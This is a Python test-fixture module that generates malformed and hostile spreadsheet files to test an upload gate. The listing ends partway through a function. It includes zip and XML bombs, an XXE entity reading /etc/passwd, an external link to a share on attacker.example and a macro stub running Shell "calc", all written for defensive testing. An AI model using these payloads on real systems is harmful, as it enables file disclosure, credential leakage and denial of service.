"""Builders of hostile workbooks, shared by the gate tests and the whole-run tests.

Nothing here is committed as a binary: every hostile file is generated at test time, either from a
small openpyxl workbook (`base_xlsx`) or from a real demo return, by rewriting zip members,
patching headers with struct, or writing raw zip / OLE2 (CFB) bytes by hand. The builders take and
return bytes; none of them touches the disk.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta

import openpyxl

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

# --- builders -----------------------------------------------------------------------------------


def base_xlsx(sheets: int = 1) -> bytes:
    """A small valid workbook written by openpyxl (sheet1.xml ... sheetN.xml)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "記入シート"
    ws["A1"] = "事業No."
    ws["B2"] = 1
    for i in range(1, sheets):
        wb.create_sheet(f"S{i + 1}")["A1"] = i
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def rewrite(
    data: bytes, replace: dict[str, bytes | None] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    """Copy a zip, replacing (or with None dropping) members and appending new ones."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in replace:
                if replace[info.filename] is not None:
                    dst.writestr(info.filename, replace[info.filename])
            else:
                dst.writestr(info.filename, src.read(info.filename))
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def sheet_xml(sheet_data: str, before: str = "", after: str = "", prefix: str = "") -> bytes:
    p = f"{prefix}:" if prefix else ""
    ns = f'xmlns{":" + prefix if prefix else ""}="{MAIN_NS}"'
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<{p}worksheet {ns} '
        f'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f"{before}<{p}sheetData>{sheet_data}</{p}sheetData>{after}</{p}worksheet>"
    ).encode()


def with_sheet(xml: bytes, base: bytes | None = None) -> bytes:
    return rewrite(base or base_xlsx(), {"xl/worksheets/sheet1.xml": xml})


def streamed_sheet(
    rows, *, level: int = 6, extra: dict[str, bytes] | None = None, base: bytes | None = None
) -> bytes:
    """A workbook whose sheet1.xml is written block by block (the test itself stays light).

    `base` is the workbook whose other members are kept (default: `base_xlsx()`).
    """
    base = base or base_xlsx()
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as dst,
    ):
        for info in src.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with dst.open(info.filename, "w", force_zip64=True) as fh:
                    fh.write(f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode())
                    for block in rows:
                        fh.write(block)
                    fh.write(b"</sheetData></worksheet>")
            else:
                dst.writestr(info.filename, src.read(info.filename))
        for name, body in (extra or {}).items():
            dst.writestr(name, body)
    return out.getvalue()



def _central_entry(name: str, crc: int, size: int, offset: int) -> bytes:
    """One stored (uncompressed) entry of a zip's central directory."""
    return (
        struct.pack("<4s6HL2L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, crc, size, size, len(name.encode()),
                    0, 0, 0, 0, 0, offset)
        + name.encode()
    )

def raw_zip(entries: list[tuple[str, bytes]], overlap_last_into_first: bool = False) -> bytes:
    """Write a stored zip by hand; optionally make the last entry live inside the first one's data."""
    local = b""
    central = b""
    if overlap_last_into_first:
        inner_name, inner = entries[-1]
        inner_lh = (
            struct.pack(
                "<4s5HL2L2H",
                b"PK\x03\x04",
                20,
                0,
                0,
                0,
                0,
                zlib.crc32(inner),
                len(inner),
                len(inner),
                len(inner_name),
                0,
            )
            + inner_name.encode()
            + inner
        )
        first_name, _ = entries[0]
        entries = [(first_name, inner_lh), *entries[1:-1]]
    offsets = []
    for name, body in entries:
        offsets.append(len(local))
        crc = zlib.crc32(body)
        local += (
            struct.pack(
                "<4s5HL2L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(body), len(body), len(name.encode()), 0
            )
            + name.encode()
            + body
        )
        central += _central_entry(name, crc, len(body), offsets[-1])
    if overlap_last_into_first:
        inner_off = 30 + len(entries[0][0].encode())
        central += _central_entry(inner_name, zlib.crc32(inner), len(inner), inner_off)
    count = len(entries) + (1 if overlap_last_into_first else 0)
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), len(local), 0)
    return local + central + eocd


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file holding the given top-level streams, each padded to 4096 bytes
    so it lives in normal sectors (no mini stream), as Office writes its encryption streams."""
    return compound_file({name: body.ljust(4096, b"\0") for name, body in streams.items()})


def patch_sizes(data: bytes, member: str, usize: int) -> bytes:
    """Lie about a member's uncompressed size in both its local header and the central directory."""
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(member)
    struct.pack_into("<L", buf, info.header_offset + 22, usize)
    pos = buf.rfind(b"PK\x05\x06")
    cd_size, cd_off = struct.unpack_from("<LL", buf, pos + 12)
    cd = cd_off
    while cd < cd_off + cd_size:
        nlen, xlen, clen = struct.unpack_from("<3H", buf, cd + 28)
        if bytes(buf[cd + 46 : cd + 46 + nlen]).decode() == member:
            struct.pack_into("<L", buf, cd + 24, usize)
        cd += 46 + nlen + xlen + clen
    return bytes(buf)


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


# --- more ways to break a zip -------------------------------------------------------------------


def corrupt_crc(data: bytes, member: str) -> bytes:
    """Flip bits of a member's CRC-32 in its local header and in the central directory."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(member)
    buf = bytearray(data)
    struct.pack_into("<L", buf, info.header_offset + 14, info.CRC ^ 0xFFFF)  # local CRC
    pos = buf.rfind(b"PK\x05\x06")
    cd_size, cd_off = struct.unpack_from("<LL", buf, pos + 12)
    cd = cd_off
    while cd < cd_off + cd_size:
        nlen, xlen, clen = struct.unpack_from("<3H", buf, cd + 28)
        if bytes(buf[cd + 46 : cd + 46 + nlen]) == member.encode():
            struct.pack_into("<L", buf, cd + 16, info.CRC ^ 0xFFFF)
        cd += 46 + nlen + xlen + clen
    return bytes(buf)


def with_dtd(data: bytes, member: str, prolog: str) -> bytes:
    """Put a DOCTYPE prolog (billion laughs, XXE) in front of a member and use its entities.

    The member is created (as an empty shared-string table) when the workbook has none.
    """
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        present = member in zf.namelist()
        original = zf.read(member) if present else b"<sst/>"
    body = original.split(b"?>", 1)[-1] if original.lstrip().startswith(b"<?xml") else original
    hostile = prolog.encode() + body.replace(b">", b">&lol9;&xxe;", 1)
    return rewrite(data, {member: hostile}) if present else rewrite(data, add={member: hostile})


# Sheet XML blocks for the bombs: about 26 MB of cells with implicit positions, and plain spaces.
ZIP_BOMB_BLOCK = b"<row><c><v>1</v></c></row>" * 100_000  # 2.6 MB per block
SPACES_BLOCK = b" " * 2**20


def formatted_empty_rows(first: int = 1, last: int = 1_048_576, per_block: int = 50_000) -> Iterator[bytes]:
    """Rows of five styled empty cells (A-E), as a sheet formatted down to the last row holds them."""
    for start in range(first, last + 1, per_block):
        yield b"".join(
            b'<row r="%d"><c r="A%d" s="1"/><c r="B%d" s="1"/><c r="C%d" s="1"/><c r="D%d" s="1"/>'
            b'<c r="E%d" s="1"/></row>' % ((i,) * 6)
            for i in range(start, min(start + per_block, last + 1))
        )


# --- cell-level bits injected into a real return ------------------------------------------------
#
# A demo return is a valid template written by openpyxl (inline strings, one worksheet part per
# sheet). These helpers change its sheet XML the way another tool, or Excel, would have written it,
# so the rest of the file stays a valid template of its office.

SHEET1 = "xl/worksheets/sheet1.xml"


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def edit_member(
    data: bytes, member: str, edit: Callable[[str], str], add: dict[str, bytes] | None = None
) -> bytes:
    """Rewrite one XML member through a text edit (which must change it)."""
    before = members(data)[member].decode("utf-8")
    after = edit(before)
    assert after != before, f"the edit did not change {member}"
    return rewrite(data, {member: after.encode("utf-8")}, add=add)


def set_cell(xml: str, ref: str, inner: str, t: str | None = None) -> str:
    """Replace cell `ref` (keeping its style) by `<c r=ref s=.. t=..>inner</c>`."""
    rx = re.compile(rf'<c r="{ref}"(?P<attrs>[^>]*?)(?:/>|>.*?</c>)', re.S)
    m = rx.search(xml)
    assert m, f"no cell {ref}"
    style = re.search(r'\ss="(\d+)"', m.group("attrs"))
    attrs = f' r="{ref}"' + (f' s="{style.group(1)}"' if style else "") + (f' t="{t}"' if t else "")
    return xml[: m.start()] + f"<c{attrs}>{inner}</c>" + xml[m.end() :]


def inline(text: str) -> str:
    """An inline-string cell body, XML-escaped."""
    esc = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<is><t xml:space="preserve">{esc}</t></is>'


def saved_by_excel(data: bytes) -> bytes:
    """Make the file look saved by Excel itself: its cached formula results can be trusted."""
    data = edit_member(
        data,
        "docProps/app.xml",
        lambda x: re.sub(
            r"<Application>[^<]*</Application>", "<Application>Microsoft Excel</Application>", x
        ),
    )
    return edit_member(data, "xl/workbook.xml", lambda x: x.replace(' fullCalcOnLoad="1"', ""))


def set_sheet_state(data: bytes, sheet: str, state: str) -> bytes:
    return edit_member(
        data,
        "xl/workbook.xml",
        lambda x: re.sub(rf'(<sheet name="{re.escape(sheet)}"[^>]*?state=")[^"]*"', rf'\g<1>{state}"', x),
    )


def hide_row(data: bytes, row: int, member: str = SHEET1) -> bytes:
    return edit_member(data, member, lambda x: x.replace(f'<row r="{row}"', f'<row r="{row}" hidden="1"', 1))


def add_merge(data: bytes, ref: str, member: str = SHEET1) -> bytes:
    def edit(x: str) -> str:
        if "<mergeCells" in x:
            return re.sub(r"</mergeCells>", f'<mergeCell ref="{ref}"/></mergeCells>', x, count=1)
        return x.replace(
            "</sheetData>", f'</sheetData><mergeCells count="1"><mergeCell ref="{ref}"/></mergeCells>', 1
        )

    return edit_member(data, member, edit)


def append_rows(data: bytes, rows: str, member: str = SHEET1) -> bytes:
    """Rows added at the end of <sheetData> (after the return's own rows)."""
    return edit_member(data, member, lambda x: x.replace("</sheetData>", rows + "</sheetData>", 1))


def add_external_link(data: bytes, target: str = "file:///\\\\attacker.example\\share\\評価.xlsx") -> bytes:
    """An external-link part as Excel writes it, wired into workbook.xml, its rels and content types."""
    rel_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="{MAIN_NS}" '
        f'xmlns:r="{rel_ns}"><externalBook r:id="rId1"><sheetNames><sheetName val="評価"/></sheetNames>'
        '<sheetDataSet><sheetData sheetId="0"><row r="4"><cell r="G4" t="str"><v>A</v></cell></row>'
        "</sheetData></sheetDataSet></externalBook></externalLink>"
    ).encode()
    link_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{rel_ns}/externalLinkPath" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()
    data = edit_member(
        data,
        "xl/_rels/workbook.xml.rels",
        lambda x: x.replace(
            "</Relationships>",
            f'<Relationship Id="rIdX1" Type="{rel_ns}/externalLink" Target="externalLinks/externalLink1.xml"/>'
            "</Relationships>",
        ),
        add={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels,
        },
    )
    data = edit_member(
        data,
        "xl/workbook.xml",
        lambda x: x.replace(
            "</sheets>",
            '</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences>',
            1,
        ),
    )
    return edit_member(
        data,
        "[Content_Types].xml",
        lambda x: x.replace(
            "</Types>",
            '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
        ),
    )


def add_vba_project(data: bytes) -> bytes:
    """An .xlsm: a (dummy) VBA project part and the macro-enabled workbook content type."""
    data = edit_member(
        data,
        "[Content_Types].xml",
        lambda x: x.replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ).replace(
            "</Types>",
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
        add={"xl/vbaProject.bin": cfb({"dir": b'\x01Attribute VB_Name = "Module1"\nShell "calc"'})},
    )
    return edit_member(
        data,
        "xl/_rels/workbook.xml.rels",
        lambda x: x.replace(
            "</Relationships>",
            '<Relationship Id="rIdV1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/></Relationships>',
        ),
    )


# Excel's owner ("lock") file: 165 bytes, the user's name padded with spaces.
OWNER_FILE = (b"\x0bYamada Taro" + b" " * 43 + b"\x00" * 2 + "山田 太郎".encode("utf-16-le")).ljust(165, b" ")


def openpyxl_bytes(wb: openpyxl.Workbook) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# --- OLE2 compound files, BIFF8 (.xls) and OpenDocument (.ods) workbooks, written by hand ------------
#
# No writer for either format is installed (xlwt, odfpy): both are small enough to write directly,
# and writing them by hand is what lets the tests make the hostile variants (an encrypted .xls, a
# BIFF5 stream, a repeated-rows bomb). `sheets_of` reads a demo return with openpyxl so that the
# .ods and .xls copies hold exactly the same cells, sheets, states, merged ranges and hidden rows.

_FREESECT, _ENDOFCHAIN, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR, _MINI, _CUTOFF = 512, 64, 4096


class _Node:
    def __init__(self, name: str, kind: int, data: bytes = b"") -> None:
        self.name, self.kind, self.data = name, kind, data  # kind: 1 storage, 2 stream, 5 root
        self.children: dict[str, _Node] = {}
        self.start, self.size = _ENDOFCHAIN, 0
        self.left = self.right = self.child = _NOSTREAM


def compound_file(files: dict[str, bytes]) -> bytes:
    """A version 3 compound file ([MS-CFB]) holding `files` ("storage/stream" → bytes).

    512-byte sectors, up to 109 FAT sectors (about 7 MB), streams under 4096 bytes in the mini
    stream, each storage's children in a balanced tree. The one writer of the tests: .msg files
    (test_mail), encrypted workbooks and .xls files (the gate and format tests).
    """
    root = _Node("Root Entry", 5)
    for path, data in files.items():
        *dirs, leaf = path.split("/")
        node = root
        for d in dirs:
            node = node.children.setdefault(d, _Node(d, 1))
        node.children[leaf] = _Node(leaf, 2, data)
    nodes: list[_Node] = []

    def number(node: _Node) -> None:
        nodes.append(node)
        for child in node.children.values():
            number(child)

    number(root)
    ids = {id(n): i for i, n in enumerate(nodes)}

    def tree(children: list[_Node]) -> int:
        if not children:
            return _NOSTREAM
        mid = len(children) // 2
        top = children[mid]
        top.left, top.right = tree(children[:mid]), tree(children[mid + 1 :])
        return ids[id(top)]

    for n in nodes:
        n.child = tree(sorted(n.children.values(), key=lambda c: (len(c.name), c.name.upper())))
    mini = bytearray()
    minifat: list[int] = []
    big: list[_Node] = []
    for n in nodes:
        if n.kind != 2 or not n.data:
            continue
        n.size = len(n.data)
        if n.size < _CUTOFF:
            n.start = len(mini) // _MINI
            count = -(-n.size // _MINI)
            minifat += [n.start + i + 1 for i in range(count - 1)] + [_ENDOFCHAIN]
            mini += n.data + b"\0" * (count * _MINI - n.size)
        else:
            big.append(n)

    def sectors(size: int) -> int:
        return -(-size // _SECTOR)

    dir_len = sectors(len(nodes) * 128) * _SECTOR
    minifat_bytes = b"".join(struct.pack("<I", x) for x in minifat)
    minifat_bytes += struct.pack("<I", _FREESECT) * ((-len(minifat)) % (_SECTOR // 4))
    chains = [dir_len, len(minifat_bytes), len(mini)] + [n.size for n in big]
    content = sum(sectors(c) for c in chains)
    nfat = 1
    while nfat * (_SECTOR // 4) < nfat + content:
        nfat += 1
    assert nfat <= 109, "too big for a header-only DIFAT"
    fat = [_FATSECT] * nfat
    starts = []
    for size in chains:
        count = sectors(size)
        if count == 0:
            starts.append(_ENDOFCHAIN)
            continue
        first = len(fat)
        starts.append(first)
        fat += [first + i + 1 for i in range(count - 1)] + [_ENDOFCHAIN]
    fat += [_FREESECT] * (nfat * (_SECTOR // 4) - len(fat))
    dir_start, minifat_start, mini_start, *big_starts = starts
    root.start, root.size = (mini_start, len(mini)) if mini else (_ENDOFCHAIN, 0)
    for n, s in zip(big, big_starts, strict=True):
        n.start = s
    entries = b""
    for n in nodes:
        raw_name = n.name.encode("utf-16-le") + b"\0\0"
        entries += struct.pack(
            "<64sHBBIII16sIQQIQ",
            raw_name, len(raw_name), n.kind, 1, n.left, n.right, n.child,
            b"\0" * 16, 0, 0, 0, n.start if n.kind != 1 else 0, n.size,
        )  # fmt: skip
    empty = struct.pack(
        "<64sHBBIII16sIQQIQ", b"", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, b"\0" * 16, 0, 0, 0, 0, 0
    )
    entries += empty * ((dir_len - len(entries)) // 128)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        bytes.fromhex("D0CF11E0A1B11AE1"), b"\0" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6,
        0, nfat, dir_start, 0, _CUTOFF,
        minifat_start if minifat else _ENDOFCHAIN, sectors(len(minifat_bytes)) if minifat else 0,
        _ENDOFCHAIN, 0,
    )  # fmt: skip
    header += b"".join(struct.pack("<I", i) for i in range(nfat))
    header += struct.pack("<I", _FREESECT) * (109 - nfat)

    def padded(data: bytes) -> bytes:
        return data + b"\0" * ((-len(data)) % _SECTOR)

    body = b"".join(struct.pack("<I", x) for x in fat)
    body += entries + (minifat_bytes if minifat else b"") + padded(bytes(mini))
    body += b"".join(padded(n.data) for n in big)
    return header + body


class Sheet:
    """One worksheet as the format builders take it: cells by (row, col), both 1-based."""

    def __init__(self, name: str, state: str = "visible") -> None:
        self.name, self.state = name, state
        self.cells: dict[tuple[int, int], object] = {}
        self.merged: list[tuple[int, int, int, int]] = []  # (row1, col1, row2, col2)
        self.hidden_rows: set[int] = set()
        self.formulas: dict[tuple[int, int], str] = {}  # .ods: table:formula text (with "of:=")


def sheets_of(xlsx: bytes) -> list[Sheet]:
    """The sheets of a workbook as openpyxl reads them (values, states, merged ranges, hidden rows)."""
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    out = []
    for ws in wb.worksheets:
        sheet = Sheet(ws.title, ws.sheet_state)
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None and c.value != "":
                    sheet.cells[(c.row, c.column)] = c.value
        sheet.merged = [(m.min_row, m.min_col, m.max_row, m.max_col) for m in ws.merged_cells.ranges]
        sheet.hidden_rows = {r for r, d in ws.row_dimensions.items() if d.hidden}
        out.append(sheet)
    return out


# BIFF8: records are (type u16, length u16, payload). One globals substream (BOF, CODEPAGE,
# BOUNDSHEET per sheet, EOF), then per sheet BOF, DIMENSIONS, one cell record per value (LABEL for
# text: UTF-16, NUMBER for numbers), MERGECELLS, ROW records for hidden rows, EOF.


def _rec(typ: int, payload: bytes) -> bytes:
    return struct.pack("<HH", typ, len(payload)) + payload


def _bof(dt: int, version: int = 0x0600) -> bytes:
    return _rec(0x0809, struct.pack("<HHHHLL", version, dt, 0x0DBB, 0x07CC, 0, 0x0206))


def biff8_stream(sheets: list[Sheet], *, version: int = 0x0600, globals_extra: bytes = b"") -> bytes:
    """A Workbook stream holding `sheets` (BIFF8 unless `version` says otherwise)."""
    states = {"visible": 0, "hidden": 1, "veryHidden": 2}
    bodies = []
    for sheet in sheets:
        rows = [r for r, _ in sheet.cells] or [1]
        cols = [c for _, c in sheet.cells] or [1]
        body = _bof(0x0010, version)
        body += _rec(0x0200, struct.pack("<LLHHH", min(rows) - 1, max(rows), min(cols) - 1, max(cols), 0))
        for r in sorted(sheet.hidden_rows):  # ROW: fDyZero (0x20) hides it
            body += _rec(0x0208, struct.pack("<HHHHHHL", r - 1, 0, 0, 0x00FF, 0, 0, 0x0100 | 0x20 | 0x40))
        for (r, c), v in sorted(sheet.cells.items()):
            if isinstance(v, bool) or not isinstance(v, int | float):
                text = str(v).encode("utf-16-le")
                body += _rec(0x0204, struct.pack("<HHHHB", r - 1, c - 1, 15, len(text) // 2, 1) + text)
            else:
                body += _rec(0x0203, struct.pack("<HHHd", r - 1, c - 1, 15, float(v)))
        if sheet.merged:
            refs = b"".join(struct.pack("<HHHH", r1 - 1, r2 - 1, c1 - 1, c2 - 1) for r1, c1, r2, c2 in sheet.merged)
            body += _rec(0x00E5, struct.pack("<H", len(sheet.merged)) + refs)
        body += _rec(0x000A, b"")
        bodies.append(body)

    def boundsheets(offsets: list[int]) -> bytes:
        out = b""
        for sheet, pos in zip(sheets, offsets, strict=True):
            name = sheet.name.encode("utf-16-le")
            out += _rec(0x0085, struct.pack("<LBBBB", pos, states[sheet.state], 0, len(name) // 2, 1) + name)
        return out

    head = _bof(0x0005, version) + globals_extra + _rec(0x0042, struct.pack("<H", 1200))
    size = len(head) + len(boundsheets([0] * len(sheets))) + 4  # + EOF
    offsets = []
    for body in bodies:
        offsets.append(size)
        size += len(body)
    return head + boundsheets(offsets) + _rec(0x000A, b"") + b"".join(bodies)


def xls(sheets: list[Sheet], **kwargs) -> bytes:
    """A legacy .xls: the BIFF8 Workbook stream in a compound file (padded past the mini-stream cutoff,
    as Excel and xlwt do)."""
    stream = biff8_stream(sheets, **kwargs)
    return compound_file({"Workbook": stream.ljust(_CUTOFF, b"\0")})


# FILEPASS with RC4 CryptoAPI encryption (wEncryptionType 1, then the encryption header): what Excel
# writes when a password is set to open the file ("読み取りパスワード"); the records after it are encrypted.
FILEPASS_RC4 = _rec(0x002F, struct.pack("<HHH", 1, 4, 2) + b"\0" * 48)


# OpenDocument: mimetype first and stored (so the file can be recognised by its first bytes), a
# manifest, meta.xml, styles.xml and content.xml. Cells are written as LibreOffice writes them:
# strings as <text:p> lines, numbers as office:value, and the rest of each row and of the sheet as
# repeated empty cells and rows (1024 columns × 1,048,576 rows).

ODS_MIME = b"application/vnd.oasis.opendocument.spreadsheet"
ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" '
    'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" '
    'office:version="1.3"'
)


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _ods_text(text: str) -> str:
    """A string as <text:p> lines, runs of spaces as <text:s text:c=…/> (as LibreOffice writes them)."""
    lines = []
    for line in text.split("\n"):
        parts = re.split(r"( {2,})", _esc(line))
        lines.append(
            "<text:p>"
            + "".join(f'<text:s text:c="{len(p)}"/>' if p.startswith("  ") else p for p in parts)
            + "</text:p>"
        )
    return "".join(lines)


def ods_cell(value: object, formula: str = "", attrs: str = "") -> str:
    f = f' table:formula="{_esc(formula)}"' if formula else ""
    if value is None or value == "":
        return f"<table:table-cell{f}{attrs}/>"
    if isinstance(value, bool) or not isinstance(value, int | float):
        return (
            f'<table:table-cell office:value-type="string" calcext:value-type="string"{f}{attrs}>'
            f"{_ods_text(str(value))}</table:table-cell>"
        )
    return (
        f'<table:table-cell office:value-type="float" office:value="{value}" calcext:value-type="float"{f}{attrs}>'
        f"<text:p>{value}</text:p></table:table-cell>"
    )


def ods_table(sheet: Sheet, *, trailing: bool = True) -> str:
    """One <table:table>, with LibreOffice's trailing repeated empty rows and columns."""
    style = "ta2" if sheet.state != "visible" else "ta1"
    out = [f'<table:table table:name="{_esc(sheet.name)}" table:style-name="{style}">',
           '<table:table-column table:number-columns-repeated="1024"/>']  # fmt: skip
    last_row = max((r for r, _ in sheet.cells), default=0)
    spans = {(r1, c1): (r2 - r1 + 1, c2 - c1 + 1) for r1, c1, r2, c2 in sheet.merged}
    covered = {(r, c) for r1, c1, r2, c2 in sheet.merged for r in range(r1, r2 + 1) for c in range(c1, c2 + 1)}
    covered -= set(spans)
    for r in range(1, last_row + 1):
        vis = ' table:visibility="collapse"' if r in sheet.hidden_rows else ""
        row_cells = [c for rr, c in sheet.cells if rr == r] + [c for rr, c in covered if rr == r]
        width = max(row_cells, default=0)
        cells = []
        for c in range(1, width + 1):
            if (r, c) in covered:
                cells.append("<table:covered-table-cell/>")
                continue
            extra = ""
            if (r, c) in spans:
                rs, cs = spans[(r, c)]
                extra = f' table:number-columns-spanned="{cs}" table:number-rows-spanned="{rs}"'
            cells.append(ods_cell(sheet.cells.get((r, c)), sheet.formulas.get((r, c), ""), extra))
        if trailing:
            cells.append(f'<table:table-cell table:number-columns-repeated="{1024 - width}"/>')
        out.append(f'<table:table-row table:style-name="ro1"{vis}>{"".join(cells)}</table:table-row>')
    if trailing:
        out.append(
            f'<table:table-row table:style-name="ro1" table:number-rows-repeated="{1048576 - last_row}">'
            '<table:table-cell table:number-columns-repeated="1024"/></table:table-row>'
        )
    out.append("</table:table>")
    return "".join(out)


def ods_content(tables: str, *, body_extra: str = "", prolog: str = "") -> bytes:
    styles = (
        '<office:automatic-styles>'
        '<style:style style:name="ta1" style:family="table"><style:table-properties table:display="true"/></style:style>'
        '<style:style style:name="ta2" style:family="table"><style:table-properties table:display="false"/></style:style>'
        '<style:style style:name="ro1" style:family="table-row"><style:table-row-properties fo:break-before="auto"/></style:style>'
        '</office:automatic-styles>'
    )  # fmt: skip
    return (
        (prolog or '<?xml version="1.0" encoding="UTF-8"?>\n')
        + f"<office:document-content {ODS_NS}>{styles}<office:body><office:spreadsheet>"
        + f"{tables}{body_extra}</office:spreadsheet></office:body></office:document-content>"
    ).encode()


def ods_meta(date: str = "2025-05-20T10:02:03.123456789") -> bytes:
    """meta.xml as LibreOffice writes it: dc:date is the time it was saved, local time, no zone."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta {ODS_NS}><office:meta>'
        "<meta:generator>LibreOffice/24.2.7.2$Linux_X86_64 LibreOffice_project/420$Build-2</meta:generator>"
        f"<dc:date>{date}</dc:date></office:meta></office:document-meta>"
    ).encode()


ODS_META = ods_meta()
ODS_STYLES = f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-styles {ODS_NS}/>'.encode()


def ods_manifest(encrypted: bool = False) -> bytes:
    enc = (
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="x">'
        '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="x"/>'
        "</manifest:encryption-data>"
        if encrypted
        else ""
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{ODS_MIME.decode()}"/>'
        f'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">{enc}'
        "</manifest:file-entry>"
        '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    ).encode()


def ods(content: bytes, *, mimetype: bytes = ODS_MIME, members: dict[str, bytes | None] | None = None,
        level: int = 6) -> bytes:
    """An .ods zip: mimetype first and stored, then the manifest, meta, styles and `content`.

    `members` adds or (with None) drops members by name.
    """  # fmt: skip
    parts: dict[str, bytes | None] = {
        "META-INF/manifest.xml": ods_manifest(),
        "meta.xml": ODS_META,
        "styles.xml": ODS_STYLES,
        "content.xml": content,
    }
    parts.update(members or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        for name, body in parts.items():
            if body is not None:
                z.writestr(name, body)
    return out.getvalue()


def ods_of(xlsx: bytes, edit: Callable[[list[Sheet]], None] | None = None) -> bytes:
    """The same workbook saved as .ods an hour after the .xlsx was saved (same cells, sheets,
    states, merged ranges, hidden rows; dc:date one hour after its core.xml modified, local time)."""
    sheets = sheets_of(xlsx)
    if edit:
        edit(sheets)
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        found = re.search(rb"<dcterms:modified[^>]*>([^<]+)<", z.read("docProps/core.xml"))
    saved = datetime.fromisoformat(found[1].decode()) if found else datetime(2025, 5, 20, 1, 2, 3, tzinfo=UTC)
    local = (saved + timedelta(hours=1)).astimezone().replace(tzinfo=None).isoformat()
